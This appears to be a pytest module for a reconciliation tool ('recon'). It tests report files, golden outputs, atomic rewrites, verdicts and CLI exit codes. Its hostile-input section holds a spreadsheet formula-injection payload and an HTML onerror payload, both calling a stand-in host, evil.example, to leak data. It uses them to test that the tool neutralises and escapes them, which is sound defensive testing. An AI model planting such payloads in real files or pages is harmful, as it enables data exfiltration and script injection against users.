"""The report's files: the output contract, golden files for the fixture scenario, spreadsheet
and HTML injection, atomic re-writes, the verdict; and `recon run` end to end with its exit
codes against a sandbox on loopback.

Regenerate the golden files after an intended change with
`RECON_UPDATE_GOLDEN=1 pytest tests/test_report.py`, and read their diff before committing.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from recon import config, pipeline, report
from recon.cli import cli
from recon.demo import DemoResult, run_demo
from recon.history import History
from tests.conftest import MakeSandbox
from tests.helpers import DAY, free_port, recon_run, run_config

GOLDEN = Path(__file__).parent / "golden"

# The output contract (docs/design.md, The finding columns), copied here on purpose: the test
# is the contract's guard.
CONTRACT_COLUMNS = [
    "check",
    "severity",
    "state",
    "order_id",
    "ledger_entry_id",
    "reference",
    "currency",
    "starship_amount",
    "ledger_amount",
    "delta",
    "starship_status",
    "starship_sub_status",
    "ledger_status",
    "created_at",
    "age_hours",
    "first_seen",
    "detail",
]
STATES = {"new", "persisting", "expected", "acknowledged", "snoozed"}


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> DemoResult:
    return run_demo(tmp_path_factory.mktemp("demo"))


def folder(result: DemoResult) -> Path:
    return result.report.parent


def rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def settled(text: str, demo_dir: Path) -> str:
    """Text with what changes from run to run (trace ids, paths, timings) replaced."""
    text = re.sub(r"trc_[0-9a-f]{32}", "trc_<trace>", text)
    text = re.sub(r"127\.0\.0\.1:\d+", "127.0.0.1:<port>", text)  # the sandbox's free port
    text = text.replace(str(demo_dir), "<demo>")
    return re.sub(
        r'"(diff_started_at|diff_finished_at|report_generated_at)": "[^"]+"',
        r'"\1": "<time>"',
        text,
    )


def check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("RECON_UPDATE_GOLDEN"):
        path.parent.mkdir(exist_ok=True)
        path.write_text(text, encoding="utf-8", newline="")
    assert text == path.read_text(encoding="utf-8"), f"{path} differs; see the module docstring"


# -- the output contract --------------------------------------------------------------------


def test_the_report_folder_holds_the_contract_files(demo: DemoResult) -> None:
    names = sorted(p.name for p in folder(demo).iterdir())
    assert names == [
        "discrepancies.csv",
        "discrepancies.xlsx",
        "quarantine.csv",
        "report.html",
        "report.txt",
        "summary.json",
    ]
    assert folder(demo).name == DAY.isoformat()


def test_discrepancies_csv_keeps_the_contract_columns_first_and_in_order(demo: DemoResult) -> None:
    header = next(csv.reader(io.StringIO((folder(demo) / "discrepancies.csv").read_text())))
    assert header[: len(CONTRACT_COLUMNS)] == CONTRACT_COLUMNS
    assert tuple(header) == report.CSV_COLUMNS


def test_discrepancies_csv_has_every_finding_of_the_history(demo: DemoResult) -> None:
    found = rows(folder(demo) / "discrepancies.csv")
    recorded = History(demo.night_history).findings(DAY).to_pylist()
    assert sorted((r["check"], r["break_id"]) for r in found) == sorted(
        (f["check"], f["break_id"]) for f in recorded
    )
    assert {r["state"] for r in found} <= STATES
    # money columns are plain numbers a spreadsheet sums: no quote, no thousands separator
    for r in found:
        for column in report.MONEY_COLUMNS:
            if r[column]:
                Decimal(r[column])


def test_summary_json_adds_up(demo: DemoResult) -> None:
    summary = json.loads((folder(demo) / "summary.json").read_text())
    inputs, matched = summary["inputs"], summary["matched"]
    assert inputs["ledger_rows"] == (
        matched["ledger_rows"] + inputs["ledger_reported"] + inputs["quarantined"]
    )
    assert inputs["starship_orders"] == matched["starship_orders"] + inputs["starship_reported"]
    assert len(rows(folder(demo) / "quarantine.csv")) == inputs["quarantined"]
    assert sum(c["findings"] for c in summary["checks"].values()) == summary["findings"]
    assert summary["exit_code"] == demo.night.exit_code == 1
    assert summary["breaks"] == demo.night.unexplained("error")


def test_golden_discrepancies_csv(demo: DemoResult) -> None:
    text = (folder(demo) / "discrepancies.csv").read_text(encoding="utf-8")
    check_golden("discrepancies-2026-04-14.csv", settled(text, demo.report.parents[2]))


def test_golden_summary_json(demo: DemoResult) -> None:
    text = (folder(demo) / "summary.json").read_text(encoding="utf-8")
    check_golden("summary-2026-04-14.json", settled(text, demo.report.parents[2]))


def test_golden_quarantine_csv(demo: DemoResult) -> None:
    text = (folder(demo) / "quarantine.csv").read_text(encoding="utf-8")
    check_golden("quarantine-2026-04-14.csv", settled(text, demo.report.parents[2]))


# -- hostile input ----------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
IMG = "<img src=x onerror=\"fetch('http://evil.example/')\">"


def hostile_night(demo: DemoResult, tmp_path: Path) -> report.ReportFiles:
    """The demo's night again, with hostile text in the ledger export."""
    work = tmp_path / "hostile"
    shutil.copytree(demo.report.parents[2], work)
    ledger = work / f"ledger-{DAY}.csv"
    text = ledger.read_text(encoding="utf-8")
    # LE-4006 stays missing_at_starship (its order id does not exist) whatever its reference
    text = text.replace("po-20260414-00088", '"' + HYPERLINK.replace('"', '""') + '"')
    # LE-4018 and LE-4021 book one order twice: duplicate_ledger_entry shows their reference
    text = text.replace("po-20260414-00069", '"' + IMG.replace('"', '""') + '"')
    # an entry id that is a formula, on a row quarantined for its blank amount
    text = text.replace("LE-4041,", "=1+2,")
    ledger.write_text(text, encoding="utf-8")
    settings = config.load(work / "recon.toml")
    pipeline.diff(settings, DAY)
    return pipeline.report(settings, DAY)[1]


def test_spreadsheet_formulas_are_neutralised(demo: DemoResult, tmp_path: Path) -> None:
    files = hostile_night(demo, tmp_path)
    found = {r["ledger_entry_id"]: r for r in rows(files.discrepancies)}
    assert found["LE-4006"]["reference"] == "'" + HYPERLINK
    assert not any(
        cell.startswith(("=", "+", "@", "\t", "\r")) for r in found.values() for cell in r.values()
    )
    negative = [r["delta"] for r in found.values() if r["delta"].startswith("-")]
    assert negative, "the fixture has negative deltas, which must stay numeric"
    quarantined = {r["entry_id"]: r for r in rows(files.quarantine)}
    assert quarantined["'=1+2"]["raw"].startswith("'=1+2,")


def test_a_late_cancellations_evidence_is_the_earlier_export(demo: DemoResult) -> None:
    """The sale a late cancellation never reversed was booked on an earlier night: the e-mail's
    evidence names that export's file and line, not D's."""
    key = json.loads(demo.answer_key.read_text(encoding="utf-8"))
    [late] = [f for f in key["findings"] if "no export reverses it" in f["note"]]
    booked_on = re.search(r"booked on (\S+),", late["note"]).group(1)  # type: ignore[union-attr]
    html = demo.report.read_text(encoding="utf-8")
    entry = f"line {late['line']} (entry {late['ledger_entry_id']})"
    assert f"ledger-{booked_on}.csv {entry}" in html
    assert f"ledger-{DAY}.csv {entry}" not in html


def test_html_escapes_partner_text(demo: DemoResult, tmp_path: Path) -> None:
    files = hostile_night(demo, tmp_path)
    html = files.html.read_text(encoding="utf-8")
    assert "<img" not in html and "<script" not in html
    assert "&lt;img src=x onerror=" in html
    assert "evil.example" in html  # present, but only as escaped text
    assert IMG in files.text.read_text(encoding="utf-8")  # plain text shows it as it is


def test_csv_text_cells_are_neutralised_and_numbers_are_not() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert report.text_cell(start + "x") == "'" + start + "x"
    assert report.text_cell(None) == ""
    assert report.text_cell(date(2026, 4, 14)) == "2026-04-14"
    assert report.text_cell("po-1") == "po-1"
    cells = dict(
        zip(
            report.CSV_COLUMNS,
            report._csv_finding(
                {
                    "check": "amount_mismatch",
                    "currency": "KWD",
                    "delta": Decimal("-0.0010"),
                    "detail": "-1 vs ledger",
                    "age_hours": 5.0,
                }
            ),
            strict=True,
        )
    )
    assert cells["delta"] == "-0.001"
    assert cells["detail"] == "'-1 vs ledger"
    assert cells["age_hours"] == "5"


# -- writing ----------------------------------------------------------------------------------


def test_rewriting_a_date_replaces_its_folder(demo: DemoResult, tmp_path: Path) -> None:
    model = report.build(History(demo.night_history), DAY)
    first = report.write(model, tmp_path)
    (first.folder / "stale.txt").write_text("from an older run")
    second = report.write(model, tmp_path)
    assert second.folder == first.folder
    assert not (second.folder / "stale.txt").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == [DAY.isoformat()]  # nothing left over


class _Broken(report.Report):
    def summary(self) -> dict[str, Any]:
        raise RuntimeError("disk full, say")


def test_a_failed_write_leaves_the_previous_report(demo: DemoResult, tmp_path: Path) -> None:
    model = report.build(History(demo.night_history), DAY)
    files = report.write(model, tmp_path)
    before = {p.name: p.read_bytes() for p in files.folder.iterdir()}
    broken = _Broken(**{f: getattr(model, f) for f in model.__dataclass_fields__})
    with pytest.raises(RuntimeError):
        report.write(broken, tmp_path)
    assert {p.name: p.read_bytes() for p in files.folder.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == [DAY.isoformat()]


def test_report_of_an_undiffed_date_is_a_clear_error(demo: DemoResult) -> None:
    result = CliRunner().invoke(
        cli, ["report", "--date", "2026-04-13", "--config", str(demo.config_file)]
    )
    assert result.exit_code == 2
    assert "no diff recorded for 2026-04-13" in result.output
    assert "Traceback" not in result.output


# -- the verdict --------------------------------------------------------------------------------


def finding(check: str, severity: str, state: str, **values: Any) -> dict[str, Any]:
    return {
        "check": check,
        "severity": severity,
        "state": state,
        "currency": "USD",
        "drift": None,
        "at_risk": None,
        **values,
    }


def model(*findings: dict[str, Any], complete: bool = True) -> report.Report:
    return report.Report(
        day=DAY,
        run={"counts": {}, "totals": [], "complete": complete},
        findings=list(findings),
        resolved=[],
        quarantine=[],
        trend=[],
        generated_at=datetime(2026, 4, 15, tzinfo=UTC),
    )


def test_verdict_books_agree_when_nothing_unexplained_is_an_error() -> None:
    quiet = model(
        finding("missing_in_ledger", "error", "acknowledged", drift=Decimal("-10")),
        finding("stuck_pending", "warning", "new"),
    )
    assert quiet.verdict == "Books agree; 1 warning"
    assert quiet.exit_code == 0


def test_verdict_counts_breaks_and_nets_drift_per_currency() -> None:
    loud = model(
        finding("amount_mismatch", "error", "new", drift=Decimal("0.05"), at_risk=Decimal("0.05")),
        finding("missing_in_ledger", "error", "persisting", drift=Decimal("-12.39")),
        finding("amount_mismatch", "error", "new", currency="EUR", drift=Decimal("0.05")),
        finding("missing_in_ledger", "error", "expected", drift=Decimal("-100")),
    )
    assert loud.verdict == "3 breaks, net drift EUR 0.05, USD -12.34"
    assert loud.exit_code == 1
    assert replace(loud, run={"complete": False}).verdict.startswith("INCOMPLETE: ")


def test_display_money() -> None:
    assert report.display_money(Decimal("1234567.5"), "USD") == "1,234,567.50"
    assert report.display_money(Decimal("-0.001"), "KWD") == "\u22120.001"
    assert report.display_money(Decimal("3000"), "JPY", sign=True) == "+3,000"
    assert report.display_money(Decimal("0.125"), "USD") == "0.125"  # never rounded away
    assert report.display_money(None, "USD") == ""


# -- recon run --------------------------------------------------------------------------------


def test_recon_run_exits_1_then_0_once_every_break_is_explained(
    make_sandbox: MakeSandbox, tmp_path: Path
) -> None:
    sandbox = make_sandbox()
    path = run_config(tmp_path, sandbox.base_url)

    first = recon_run(path, sandbox)
    assert first.exit_code == 1, first.output
    html = tmp_path / "reports" / DAY.isoformat() / "report.html"
    assert f"report: {html}" in first.output
    assert "not e-mailed" in first.output

    history = pipeline.history_of(config.load(path))
    acknowledged = 0
    for f in history.findings(DAY).to_pylist():
        if f["severity"] == "error" and f["state"] != "expected":
            history.act(f["break_id"], "ack", note="explained in a test")
            acknowledged += 1

    second = recon_run(path, sandbox)
    assert second.exit_code == 0, second.output
    summary = json.loads((html.parent / "summary.json").read_text())
    assert summary["verdict"].startswith("Books agree")
    assert acknowledged > 0
    assert summary["states"]["acknowledged"] == acknowledged


def test_recon_run_exits_2_when_starship_cannot_be_reached(tmp_path: Path) -> None:
    root = f"http://127.0.0.1:{free_port()}/api/v1"
    path = run_config(tmp_path, root, "max_attempts = 1")
    result = recon_run(path, None)
    assert result.exit_code == 2
    assert root in result.output
    assert result.output.startswith("recon: ")
    assert "Traceback" not in result.output
    assert not (tmp_path / "reports").exists()


def test_recon_run_without_the_nights_export_runs_and_names_it(
    make_sandbox: MakeSandbox, tmp_path: Path
) -> None:
    """A night whose own export has not come (a weekend, a holiday) runs with the exports it
    has and says which one it lacks; the day's orders are expected, not missing."""
    sandbox = make_sandbox()
    path = run_config(tmp_path, sandbox.base_url)
    (tmp_path / f"ledger-{DAY}.csv").unlink()
    result = recon_run(path, sandbox)
    assert result.exit_code in (0, 1), result.output
    assert f"no ledger export for {DAY} yet (ledger-{DAY}.csv)" in result.output
    [summary_file] = tmp_path.glob(f"**/{DAY}/summary.json")
    summary = json.loads(summary_file.read_text())
    assert summary["missing_exports"] == [
        {"date": str(DAY), "path": str(tmp_path / f"ledger-{DAY}.csv")}
    ]
    assert summary["checks"]["missing_in_ledger"]["new"] == 0


def test_recon_run_exits_2_when_the_exports_stopped_coming(
    make_sandbox: MakeSandbox, tmp_path: Path
) -> None:
    sandbox = make_sandbox()
    path = run_config(tmp_path, sandbox.base_url, ledger="max_export_gap_days = 0")
    (tmp_path / f"ledger-{DAY}.csv").unlink()
    result = recon_run(path, sandbox)
    assert result.exit_code == 2
    assert f"ledger-{DAY}.csv" in result.output
    assert "max_export_gap_days = 0" in result.output
